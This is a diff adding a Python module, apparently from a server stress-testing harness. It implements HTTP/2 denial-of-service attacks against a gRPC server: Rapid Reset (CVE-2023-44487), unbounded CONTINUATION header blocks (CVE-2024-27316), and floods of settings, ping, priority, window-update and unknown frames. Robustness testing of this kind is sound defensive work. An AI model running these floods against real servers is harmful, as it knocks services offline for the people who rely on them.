@@ -1,0 +1,108 @@
+"""Valid HTTP/2 frames in numbers and orders that no client needs."""
+
+import time
+
+import http2
+import sockets
+from attack import Attack, in_threads
+
+RESETS = 20000    # a connection, at most
+FRAMES = 100000   # of a flood, at most
+BATCH = 200
+HEADER_BYTES = 8 << 20
+
+
+def _connected(target, outcome):
+    """A new connection, or nothing and a little time."""
+    try:
+        return http2.Connection(target.server)
+    except OSError:
+        outcome.count("connections refused")
+        time.sleep(0.1)
+        return None
+
+
+def rapid_reset(target, outcome):
+    """Calls that are reset as soon as they are opened (CVE-2023-44487)."""
+    fields = http2.request_fields("MultiplyUnary")
+
+    def work(target, outcome, worker):
+        while target.left() > 0:
+            connection = _connected(target, outcome)
+            if connection is None:
+                continue
+            for first in range(1, 2 * RESETS, 2 * BATCH):
+                batch = b"".join(
+                    http2.frame(http2.HEADERS, http2.END_HEADERS, stream, fields)
+                    + http2.rst_stream(stream) for stream in range(first, first + 2 * BATCH, 2))
+                if target.left() <= 0 or not connection.send(batch, 1):
+                    break
+                outcome.count("resets", BATCH)
+                for _ in connection.frames(0):
+                    pass
+            connection.close()
+            outcome.count("connections")
+
+    in_threads(2, work, target, outcome)
+
+
+def _continuation(rng):
+    """A header block that goes on and on (CVE-2024-27316)."""
+    block = http2.field(b"x-%d" % rng.getrandbits(60), b"v" * 8000)
+    first = http2.frame(http2.HEADERS, 0, 1, http2.request_fields("MultiplyUnary"))
+    return first, http2.frame(http2.CONTINUATION, 0, 1, block)
+
+
+def _header_list(rng):
+    """Large header lists, each of them whole."""
+    fields = http2.request_fields("MultiplyUnary", [(b"x-%d" % i, b"v" * 1000) for i in range(14)])
+    return b"", http2.frame(http2.HEADERS, http2.END_HEADERS, rng.randrange(1, 9999, 2), fields)
+
+
+FLOODS = {
+    "settings": lambda rng: (b"", http2.settings({http2.INITIAL_WINDOW_SIZE: rng.getrandbits(20),
+                                                  http2.HEADER_TABLE_SIZE: rng.getrandbits(16)})),
+    "pings": lambda rng: (b"", http2.frame(http2.PING, 0, 0, rng.randbytes(8))),
+    "priorities": lambda rng: (b"", http2.frame(http2.PRIORITY, 0, rng.randrange(1, 9999, 2),
+                                                b"\0\0\0\0\x10")),
+    "empty data": lambda rng: (http2.frame(http2.HEADERS, http2.END_HEADERS, 1,
+                                           http2.request_fields("Multiply")),
+                               http2.frame(http2.DATA, 0, 1)),
+    "window updates": lambda rng: (b"", http2.window_update(0, rng.choice([1, 0, 1 << 30]))),
+    "continuations": _continuation,
+    "header lists": _header_list,
+    "unknown frames": lambda rng: (b"", http2.frame(0x42, 0, 0, rng.randbytes(1000))),
+}
+
+
+def flood(target, outcome):
+    """Floods of each kind, nothing of what comes back being read."""
+    def work(target, outcome, worker):
+        rng = target.rng(worker)
+        while target.left() > 0:
+            kind = rng.choice(list(FLOODS))
+            connection = _connected(target, outcome)
+            if connection is None:
+                continue
+            first, each = FLOODS[kind](rng)
+            batch = each * max(1, min(BATCH, (256 << 10) // len(each)))
+            taken = connection.send(first, 1)
+            for _ in range(FRAMES // BATCH):
+                if not taken or target.left() <= 0:
+                    break
+                taken = connection.send(batch, 0.5)
+                outcome.count(f"batches of {kind}")
+            if not sockets.is_open(connection.socket):
+                outcome.count(f"{kind}: connection ended by the server")
+            connection.close()
+
+    in_threads(3, work, target, outcome)
+
+
+ATTACKS = [
+    Attack("rapid-reset", f"calls reset at once, {RESETS} a connection", rapid_reset,
+           peak_mib=256),
+    # gRPC 1.51 keeps a header block that does not end, however long it is: the bound is what
+    # three connections may send here.
+    Attack("frames", "floods of settings, pings, continuations and others", flood, peak_mib=512),
+]
